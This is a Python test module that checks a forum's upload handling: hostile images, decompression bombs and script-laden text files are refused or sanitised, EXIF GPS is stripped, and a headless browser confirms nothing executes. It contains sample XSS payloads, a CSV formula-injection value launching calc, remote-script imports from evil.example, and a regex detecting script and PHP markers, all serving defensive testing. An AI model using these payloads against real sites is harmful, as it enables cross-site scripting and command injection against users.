"""Hostile uploads: refused, or made harmless; opened in a real browser, nothing runs."""

import base64
import re
import subprocess
import sys
from collections.abc import Mapping
from contextlib import suppress
from dataclasses import dataclass
from functools import cache
from io import BytesIO

import pytest
from fastapi.testclient import TestClient
from PIL import Image
from playwright.sync_api import Browser, Error, Request, Route
from sqlalchemy import update

from app.attachments import actions
from app.attachments.actions import Prepared
from app.attachments.models import Attachment
from app.attachments.pages import address
from app.attachments.refusals import FileRefused
from app.attachments.types import KINDS
from app.core import paths
from app.core.backends.pictures import WorkerPictures
from app.core.backends.storage import LocalStorage, Storage
from app.core.db.engines import Database
from tests.conftest import BASE_URL
from tests.corpora.watched import Watched, window
from tests.factories import files
from tests.factories.corpora import corpus
from tests.factories.house import House

pytestmark = pytest.mark.corpora

ACCEPTED = frozenset(
    """
    1x50000.png a.pdf exif_gps_orientation.jpg exif_php.jpg gifar.gif jpg_html_comment.jpg
    ok.png ok_upper.PNG one_pixel.gif pat_GIF_exploit.gif pat_JPG_exploit-55.jpg
    pat_PNG_32x32_resize_bypass_use_LFI.png pat_payload_text_xss.png
    pat_xss_comment_exif_metadata_double_quote.png png_html_tail.png png_html_text.png
    """.split()
)
"""What a forum takes of the corpus; everything else is refused."""

PIXELS = frozenset({"pat_GIF_exploit.gif", "pat_PNG_32x32_resize_bypass_use_LFI.png"})
"""Their words are pixels, and pixels stay."""

WORDS = re.compile(
    rb"<script|<\?php|alert\(|<html|doctype|system\(|PK\x03\x04|META-INF", re.IGNORECASE
)
HOSTILE_TEXTS: Mapping[str, bytes] = {
    "words.txt": b"Bonjour.\n<!doctype html><script>alert(1)</script>",
    "program.txt": b"alert(1)//",
    "style.txt": b"*{background:url(https://evil.example/)}",
    "formula.csv": b"=cmd|'/c calc'!A1;<script>alert(1)</script>\n",
    "import.csv": b"import('https://evil.example/a.js')",
    "sheet.ods": files.office("ods", **{"a.html": b"<script>alert(1)</script>"}),
    "script.pdf": files.PDF + b"<script>alert(1)</script>",
}
WAYS = """<!doctype html><title>a</title><body><img src="{url}">
<script src="{url}"></script>
<script type="module" src="{url}"></script><link rel="stylesheet" href="{url}">
<iframe src="{url}"></iframe><object data="{url}"></object><embed src="{url}">"""
"""Every way in which a page could open a file, were somebody able to write it."""

MEASURE = """
import resource, sys
from app.core.backends.pictures import WorkerPictures
from app.core.pictures.parts import UnfitPicture
try:
    WorkerPictures(seconds=60).cleaned(sys.stdin.buffer.read(), sys.argv[1])
except UnfitPicture as unfit:
    print(unfit.fault)
print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024)
"""


@dataclass(frozen=True, slots=True)
class Upload:
    """One line of the corpus."""

    name: str
    content: bytes
    expect: str


@cache
def uploads() -> tuple[Upload, ...]:
    """Return the corpus."""
    return tuple(
        Upload(row["filename"], base64.b64decode(row["data"]), row["expect"])
        for row in corpus("uploads")
    )


@pytest.fixture(scope="module")
def kept(tmp_path_factory: pytest.TempPathFactory) -> LocalStorage:
    """Keep what is taken of the corpus."""
    return LocalStorage(tmp_path_factory.mktemp("uploads"))


@pytest.fixture(scope="module")
def taken(kept: LocalStorage) -> Mapping[str, Prepared]:
    """Send the whole corpus; give what was taken by the name it came with."""
    found = {}
    for upload in uploads():
        with suppress(FileRefused):
            found[upload.name] = receive(kept, upload.name, upload.content)
    return found


def receive(storage: Storage, name: str, content: bytes) -> Prepared:
    return actions.receive(storage, WorkerPictures(seconds=60), name, content)


def test_the_corpus_is_taken_or_refused_as_it_should(
    taken: Mapping[str, Prepared],
) -> None:
    assert len(uploads()) > 50
    assert set(taken) == ACCEPTED
    for upload in uploads():
        if upload.expect.startswith("reject"):
            assert upload.name not in taken
        if upload.expect == "accept":
            assert upload.name in taken


def test_a_type_is_what_the_content_is(
    kept: LocalStorage, taken: Mapping[str, Prepared]
) -> None:
    for name, prepared in taken.items():
        assert prepared.media_type in KINDS
        if prepared.media_type == "application/pdf":
            continue
        shown = Image.open(BytesIO(kept.read(prepared.key)))
        assert Image.MIME[shown.format or ""] == prepared.media_type, name
        assert shown.size == (prepared.width, prepared.height)


def test_no_words_are_left_in_a_picture(
    kept: LocalStorage, taken: Mapping[str, Prepared]
) -> None:
    hostile = {upload.name for upload in uploads() if WORDS.search(upload.content)}
    assert len(hostile & ACCEPTED) > 5
    for name in hostile & ACCEPTED - PIXELS - {"a.pdf"}:
        assert not WORDS.search(kept.read(taken[name].key)), name
        assert not WORDS.search(kept.read(taken[name].thumbnail_key or "")), name


def test_a_photo_no_longer_tells_where_it_was_taken(
    kept: LocalStorage, taken: Mapping[str, Prepared]
) -> None:
    photo = taken["exif_gps_orientation.jpg"]
    shown = Image.open(BytesIO(kept.read(photo.key)))
    assert (photo.width, photo.height) == shown.size == (8, 16)
    assert len(shown.getexif()) == 0
    assert b"Exif" not in kept.read(photo.key)


def test_bombs_take_little_memory() -> None:
    def measured(name: str, media_type: str) -> list[str]:
        (content,) = (upload.content for upload in uploads() if upload.name == name)
        told = subprocess.run(
            [sys.executable, "-c", MEASURE, media_type],
            input=content,
            stdout=subprocess.PIPE,
            cwd=paths.PACKAGE_PARENT,
            check=True,
        )
        return told.stdout.decode().split()

    (usual,) = measured("ok.png", "image/png")
    for name, media_type, expected in (
        ("bomb_header_65535.jpg", "image/jpeg", "pixels"),
        ("bomb_ztxt_60MB.png", "image/png", "unreadable"),
        ("bomb_iccp_60MB.png", "image/png", "unreadable"),
    ):
        fault, megabytes = measured(name, media_type)
        assert fault == expected
        assert int(megabytes) - int(usual) < 64, name


@pytest.fixture
def served(database: Database, storage: Storage, house: House) -> Mapping[str, str]:
    """Attach all that is taken, and more, to a post; give the addresses by name."""
    more = HOSTILE_TEXTS.items()
    sent = [(upload.name, upload.content) for upload in uploads()] + list(more)
    found = {}
    for name, content in sent:
        with suppress(FileRefused), database.writing() as db:
            prepared = receive(storage, name, content)
            made = actions.keep(db, storage, None, prepared)
            found[name] = address(made.id, made.name)
    with database.writing() as db:
        db.execute(update(Attachment).values(post_id=house.visible_post))
    return found


@pytest.mark.browser
def test_nothing_runs_when_an_upload_is_opened(
    chromium: Browser, client: TestClient, served: Mapping[str, str]
) -> None:
    assert set(served) == ACCEPTED | set(HOSTILE_TEXTS)
    faults: dict[str, list[str]] = {}
    with window(chromium, BASE_URL) as watched:
        watched.page.route("**/*", lambda route: answer(client, route))
        visit(watched, "/ways?/attachment/0/nothing")
        watched.learn()
        for name, path in served.items():
            for opened in (path, f"{path}?thumb=1", f"/ways?{path}"):
                visit(watched, opened)
            if seen := [url for url in watched.ran() + watched.asked() if is_ours(url)]:
                faults[name] = seen
            watched.forget()
    assert faults == {}


@pytest.mark.browser
def test_the_browser_would_see_what_runs(chromium: Browser, client: TestClient) -> None:
    with window(chromium, BASE_URL) as watched:
        watched.page.route("**/*", lambda route: answer(client, route))
        visit(watched, "/ways?/attachment/0/nothing")
        watched.learn()
        visit(watched, "/ways?/hostile.js")
        assert watched.ran()


def is_ours(url: str) -> bool:
    """Leave out what belongs to the browser's own viewer of PDFs."""
    return not url.startswith(("chrome:", "chrome-extension:"))


def visit(watched: Watched, path: str) -> None:
    with suppress(Error):  # a download is no page
        watched.page.goto(f"{BASE_URL}{path}")
        watched.page.wait_for_timeout(20)


def answer(client: TestClient, route: Route) -> None:
    """Answer as the forum does; «ways» is a page without any policy, the worst there is."""
    path = route.request.url.removeprefix(BASE_URL)
    if path.startswith("/ways?"):
        body = WAYS.replace("{url}", path.removeprefix("/ways?"))
        route.fulfill(body=body, headers={"content-type": "text/html; charset=utf-8"})
    elif path == "/hostile.js":
        route.fulfill(body="alert(1)", headers={"content-type": "text/javascript"})
    elif path.startswith("/attachment/"):
        told = client.get(path, headers=headers_of(route.request))
        kept = {n: v for n, v in told.headers.items() if n != "content-length"}
        route.fulfill(status=told.status_code, headers=kept, body=told.content)
    else:
        route.abort()


def headers_of(request: Request) -> dict[str, str]:
    return {name: value for name, value in request.headers.items() if name == "range"}
